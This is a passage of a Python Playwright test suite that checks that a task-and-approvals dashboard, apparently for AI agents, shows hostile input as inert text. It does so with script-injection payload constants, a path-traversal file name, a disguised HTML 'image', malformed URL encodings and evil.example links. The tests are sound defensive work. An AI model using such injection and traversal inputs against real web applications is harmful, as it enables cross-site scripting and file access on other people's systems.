            one.startswith(("http://evil.example", "http://www.evil.", "http://localhost@"))
            for one in links
        )
        # Each says where it leads, whatever its words are.
        await _shows(page, "(evil.example)")


@pytest.mark.requirement("R57")
async def test_a_hostile_change_is_shown_as_text(desk: Desk, browser: Browser) -> None:
    short_id = await asyncio.to_thread(
        desk.shop.ask,
        f"@dev fix the bug in out.txt, add a test, update the docs, hostile edits {SVG}",
    )
    async with watched(browser, desk) as (page, watch):
        await enter(page, desk.place, f"/tasks/{short_id}")
        await _shows(page, FILE, NEW_FILE, SCRIPT, f"</code></pre>{SVG}", f"hostile edits {SVG}")
        await watch.assert_nothing_happened()
        for left, name in enumerate(INHERITED, 1):
            kept = page.get_by_label(f"Keep {name}", exact=True)
            await kept.uncheck()
            await expect(kept).not_to_be_checked()
            await expect(page.locator(".narrowing")).to_contain_text(f"{4 - left} of 4")
        await page.evaluate("path => { location.hash = path; }", "/approvals")
        await _shows(page, short_id, f"hostile edits {SVG}")
        await watch.assert_nothing_happened()
    await asyncio.to_thread(_assert_untouched, desk, short_id)


@pytest.mark.requirement("R57")
async def test_hostile_files_are_shown_as_text(desk: Desk, browser: Browser) -> None:
    async with watched(browser, desk, allowed=("Failed to load resource",)) as (page, watch):
        await enter(page, desk.place, "/files")
        await _shows(page, FILE, IMG)
        await watch.assert_nothing_happened()
        for path, text in (
            (FILE, "one = 1"),
            ("out.txt", SCRIPT),
            (f"{IMG}/{SVG}.txt", f"</code></pre>{SVG}"),
            ("html.png", f"<!doctype html>{SCRIPT}"),
            ("drawing.svg", SCRIPT),
            (f"no such {IMG}", f"no such {IMG}"),
            (f"../{SCRIPT}", "window.xss"),
        ):
            parts = "/".join(_coded(part) for part in path.split("/"))
            await page.evaluate("path => { location.hash = path; }", f"/files/shop-api/{parts}")
            await _shows(page, text)
            await watch.assert_nothing_happened()
        await page.evaluate("path => { location.hash = path; }", "/files/shop-api/polyglot.png")
        await expect(page.locator("main img")).to_be_visible(timeout=SECONDS)
        await watch.assert_nothing_happened()
        await page.evaluate("path => { location.hash = path; }", f"/files/{_coded(IMG)}/a")
        await _shows(page, f"no workspace {IMG}")
        await watch.assert_nothing_happened()


def _coded(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


@pytest.mark.requirement("R57")
async def test_output_of_a_command_is_shown_as_text(desk: Desk, browser: Browser) -> None:
    short_id = await asyncio.to_thread(desk.shop.ask, "@dev test")
    await asyncio.to_thread(desk.place.approve, short_id)
    await asyncio.to_thread(desk.place.final, short_id)
    async with watched(browser, desk) as (page, watch):
        await enter(page, desk.place, f"/tasks/{short_id}")
        await expect(page.locator("pre.output")).to_contain_text(SCRIPT, timeout=SECONDS)
        await expect(page.locator("pre.output")).to_contain_text(IMG)
        await watch.assert_nothing_happened()


@pytest.mark.requirement("R57")
async def test_hostile_playbooks_are_shown_as_text(desk: Desk, browser: Browser) -> None:
    async with watched(browser, desk) as (page, watch):
        await enter(page, desk.place, "/playbooks")
        await _shows(page, SCRIPT, IMG)
        await watch.assert_nothing_happened()
        played = desk.visit.post(
            "/api/playbooks/hostile/play", message=f"for {SVG}", workspace="", lang="en"
        )
        answer = await asyncio.to_thread(played.send)
        assert answer.status == 200, answer
        short_id = answer.json()["short_id"]
        await page.evaluate("path => { location.hash = path; }", f"/tasks/{short_id}")
        await _shows(page, short_id, f"for {SVG}")
        await watch.assert_nothing_happened()


@pytest.mark.requirement("R57")
@pytest.mark.parametrize(
    "section", ["tasks", "insights", "audit", "settings", IMG, "%", "%E0%A4%A", *INHERITED]
)
async def test_no_section_takes_hostile_words_for_markup(
    desk: Desk, open_page: Page, section: str
) -> None:
    path = f"/{section}/{IMG}?{SCRIPT}={IMG}&line={SCRIPT}"
    async with shown(open_page, desk, path, allowed=("Failed to load resource",)) as watch:
        await open_page.wait_for_timeout(500)
        await watch.assert_nothing_happened()
        await expect(open_page.locator("main")).to_be_visible()


@pytest.mark.requirement("R57")
async def test_what_is_told_live_and_searched_for_is_shown_as_text(
    desk: Desk, open_page: Page
) -> None:
    page = open_page
    async with shown(page, desk, "/tasks") as watch:
        said = f"@dev explain live {IMG}"
        await asyncio.to_thread(desk.shop.say, said)
        await _shows(page, f"explain live {IMG}")
        await page.get_by_role("searchbox").fill(f"{SCRIPT}%_'\"")
        await page.wait_for_timeout(500)
        await watch.assert_nothing_happened()
        await asyncio.to_thread(wait_until, lambda: desk.shop.task(f"live {IMG}").get("reason"))


# -- texts that cannot be read ---------------------------------------------------------------------


@pytest.mark.requirement("R57")
@pytest.mark.parametrize("bomb", BOMBS)
async def test_markdown_that_cannot_be_read_is_shown_all_the_same(
    desk: Desk, open_page: Page, bomb: str
) -> None:
    page = open_page
    task = await asyncio.to_thread(desk.shop.answered, f"@dev explain the {bomb}")
    async with shown(page, desk, f"/tasks/{task['short_id']}") as watch:
        await expect(page.locator(".task-head h1")).to_have_text(task["short_id"], timeout=SECONDS)
        await expect(page.locator(".markdown")).to_contain_text("the end", timeout=SECONDS)
        await watch.assert_nothing_happened()
        await page.evaluate("path => { location.hash = path; }", "/approvals")
        await expect(page.get_by_role("heading", level=1)).to_have_text("Approvals")
